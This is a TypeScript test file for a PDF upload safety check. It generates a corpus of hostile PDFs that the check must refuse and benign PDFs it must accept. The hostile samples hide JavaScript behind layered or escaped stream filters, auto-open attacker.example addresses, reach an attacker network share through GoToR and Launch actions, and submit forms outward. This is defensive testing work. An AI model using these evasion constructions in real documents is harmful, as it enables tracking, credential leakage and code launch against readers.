import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { describe, expect, it } from 'vitest';
import { pdf, png } from '../../test/documents';
import { createPdf, pdfBytes } from '../pdf';
import { isSafeCompletePdf, PDF_MAX_OBJECTS } from './pdf-check';
import { ascii85, asciiHex, lzw, runLength } from './pdf-filters';

/**
 * The hostile PDF corpus (decision 0035), generated here: each sample is refused by the upload
 * check, and benign PDFs (the product's own among them) are accepted.
 */

const latin1 = (s: string) => Buffer.from(s, 'latin1');
const hex = (s: string) => `${latin1(s).toString('hex')}>`;
/** ASCII85 of `s` (groups of four bytes, a short last group), ending with `~>`. */
function a85(s: string): string {
  const bytes = latin1(s);
  let out = '';
  for (let i = 0; i < bytes.length; i += 4) {
    const group = bytes.subarray(i, i + 4);
    const padded = Buffer.concat([group, Buffer.alloc(4 - group.length)]);
    let value = padded.readUInt32BE(0);
    const chars: string[] = [];
    for (let j = 0; j < 5; j++) {
      chars.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += chars.slice(0, group.length + 1).join('');
  }
  return `${out}~>`;
}
/** LZW of `s` as literal 9-bit codes between a clear and an end code (valid for up to 250 bytes). */
function lzwOf(s: string): Buffer {
  const codes = [256, ...latin1(s), 257];
  const out = Buffer.alloc(Math.ceil((codes.length * 9) / 8));
  codes.forEach((code, i) => {
    for (let b = 0; b < 9; b++) if (code & (1 << (8 - b))) out[(i * 9 + b) >> 3]! |= 0x80 >> ((i * 9 + b) & 7);
  });
  return out;
}
/** RunLength of `s` as literal runs of up to 128 bytes, then the end byte. */
function runLengthOf(s: string): Buffer {
  const bytes = latin1(s);
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += 128) {
    const run = bytes.subarray(i, i + 128);
    parts.push(Buffer.from([run.length - 1]), run);
  }
  return Buffer.concat([...parts, Buffer.from([128])]);
}

/** A stream object `4 0` with `dict` entries and `data`, added to the one-page PDF. */
function withStream(dict: string, data: Buffer | string, catalog = ''): Buffer {
  const bytes = typeof data === 'string' ? latin1(data) : data;
  const object = Buffer.concat([latin1(`4 0 obj << ${dict} /Length ${bytes.length} >>\nstream\n`), bytes, latin1('\nendstream\nendobj')]);
  return pdf({ catalog, extra: object.toString('latin1') });
}
/** An object stream holding object 5 (`content`), encoded by `filter`. */
const objectStream = (filter: string, encoded: Buffer | string, catalog = '') => withStream(`/Type /ObjStm /N 1 /First 4 /Filter ${filter}`, encoded, catalog);

const SCRIPT = '5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
const OPEN_WEB = '/OpenAction << /S /URI /URI (https://attacker.example/track) >>';

const hostile: [string, () => Buffer | Promise<Buffer>][] = [
  ['JavaScript in an ASCIIHex object stream', () => objectStream('/ASCIIHexDecode', hex(SCRIPT))],
  ['JavaScript in an ASCIIHex object stream, the filter name escaped', () => objectStream('/ASCII#48exDecode', hex(SCRIPT))],
  ['JavaScript in an ASCII85 object stream', () => objectStream('/A85', a85(SCRIPT))],
  ['JavaScript in an LZW object stream', () => objectStream('/LZWDecode', lzwOf(SCRIPT))],
  ['JavaScript in a RunLength object stream', () => objectStream('/RunLengthDecode', runLengthOf(SCRIPT))],
  ['JavaScript behind two filters (ASCIIHex then Flate)', () => objectStream('[/ASCIIHexDecode /FlateDecode]', `${deflateSync(latin1(SCRIPT)).toString('hex')}>`)],
  ['an object stream with a filter the check cannot decode (Crypt)', () => objectStream('/Crypt', 'anything')],
  ['a stream with an unknown filter', () => withStream('/Filter /MadeUpDecode', 'anything')],
  ['an object stream behind an image-only filter', () => objectStream('/DCTDecode', 'anything')],
  ['an object stream with a predictor', () => objectStream('/FlateDecode /DecodeParms << /Predictor 2 /Colors 1 >>', deflateSync(latin1(SCRIPT)))],
  ['a stream whose data is in an outside file', () => withStream('/F (\\\\\\\\files.example\\\\share\\\\data.bin)', '')],
  ['an open action to a web address', () => pdf({ catalog: OPEN_WEB })],
  ['an open action to a web address, the names escaped', () => pdf({ catalog: '/Open#41ction << /S /#55RI /URI (https://attacker.example/) >>' })],
  ['an open action by reference to a web address', () => pdf({ catalog: '/OpenAction 6 0 R', extra: '6 0 obj << /S /URI /URI (https://attacker.example/) >> endobj' })],
  [
    'an open action whose /Next reaches a web address',
    () => pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>', extra: '6 0 obj << /S /URI /URI (https://attacker.example/) >> endobj' }),
  ],
  ['an open action to a web address inside an ASCIIHex object stream', () => objectStream('/AHx', hex('6 0 << /S /URI /URI (https://attacker.example/) >>'), '/OpenAction 6 0 R')],
  ['a page opening a web address (/AA)', () => pdf({ extra: '7 0 obj << /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://attacker.example/) >> >> >> endobj' })],
  [
    'an open action redefined by an incremental update',
    () => pdf({ catalog: '/OpenAction 6 0 R', extra: '6 0 obj [3 0 R /Fit] endobj\n6 0 obj << /S /URI /URI (https://attacker.example/) >> endobj' }),
  ],
  ['an open action opening a file on a network share (GoToR)', () => pdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\doc.pdf) /D [0 /Fit] >>' })],
  ['a Launch action', () => pdf({ catalog: '/OpenAction << /S /Launch /F (\\\\\\\\attacker\\\\share\\\\run.exe) >>' })],
  ['a GoToE action', () => pdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>' })],
  ['a SubmitForm action', () => pdf({ extra: '7 0 obj << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> endobj' })],
  ['an ImportData action', () => pdf({ extra: '7 0 obj << /S /ImportData /F (data.fdf) >> endobj' })],
  ['more objects than the check reads', () => pdf({ extra: Array.from({ length: PDF_MAX_OBJECTS }, (_, i) => `${i + 10} 0 obj null endobj`).join('\n') })],
  ['an open action the check cannot read', () => pdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/ >>' })],
];

describe('isSafeCompletePdf: the hostile corpus', () => {
  it.each(hostile)('refuses %s', async (_name, make) => {
    expect(isSafeCompletePdf(await make())).toBe(false);
  });
});

/** A PDF as pdfkit writes it: text, a link the reader clicks, a PNG image (Flate with a predictor). */
async function pdfkitDocument(): Promise<Buffer> {
  const image = await png(60, 40);
  const doc = new PDFDocument({ compress: true, info: { CreationDate: new Date('2026-11-25T09:00:00Z') } });
  const chunks: Buffer[] = [];
  doc.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<void>((resolve) => doc.on('end', resolve));
  doc.text('Bank statement, November 2026', { link: 'https://bank.example/help' });
  doc.image(image, 50, 100, { width: 60 });
  doc.end();
  await done;
  return Buffer.concat(chunks);
}

const benign: [string, () => Buffer | Promise<Buffer>][] = [
  ['a plain one-page PDF', () => pdf()],
  ['a link the reader clicks to a web address', () => pdf({ extra: '7 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://bank.example/) >> >> endobj' })],
  ['an open action that shows the first page', () => pdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
  ['a GoTo open action by reference', () => pdf({ catalog: '/OpenAction 6 0 R', extra: '6 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj' })],
  ['a harmless ASCIIHex object stream', () => objectStream('/ASCIIHexDecode', hex('5 0 << /Title (November) >>'))],
  ['a harmless ASCII85, LZW and RunLength content stream', () => withStream('/Filter [/A85 /LZW /RL]', a85(lzwOf(runLengthOf('BT /F1 12 Tf (Hello) Tj ET').toString('latin1')).toString('latin1')))],
  ['a JPEG image stream (DCTDecode, not decoded)', () => withStream('/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode', Buffer.from('ffd8ffe000104a4649460001ffd9', 'hex'))],
  ['a document written by pdfkit, with a link and a PNG image', pdfkitDocument],
  ['a statement the product writes', () => pdfBytes(createPdf({ title: 'Statement', footer: 'Land Units Ltd', createdAt: new Date('2026-11-25T09:00:00Z') }), (doc) => doc.heading('Łukasz Żółć'))],
];

describe('isSafeCompletePdf: benign documents', () => {
  it.each(benign)('accepts %s', async (_name, make) => {
    expect(isSafeCompletePdf(await make())).toBe(true);
  });
});

describe('the stream decoders', () => {
  it('decode the examples of PDF 32000-1 and their own encodings', () => {
    // §7.4.4.2: "-----A---B" as LZW codes 256 45 258 258 65 259 66 257.
    expect(lzw(Buffer.from('800b6050220c0c8501', 'hex'), 1_000).toString('latin1')).toBe('-----A---B');
    expect(asciiHex(latin1('48 65 6C6c 6F>')).toString('latin1')).toBe('Hello');
    expect(asciiHex(latin1('7')).toString('latin1')).toBe('p');
    expect(ascii85(latin1('87cURD]i,"Ebo80~>')).toString('latin1')).toBe('Hello World!');
    expect(ascii85(latin1('z!!~>'))).toEqual(Buffer.alloc(5));
    expect(runLength(Buffer.from([2, 0x61, 0x62, 0x63, 254, 0x7a, 128]), 1_000).toString('latin1')).toBe('abczzz');
  });

  it('refuses a decoded stream past the budget instead of reading on', () => {
    expect(() => runLength(Buffer.from([129, 0x41, 129, 0x41]), 200)).toThrow(/budget/);
  });
});
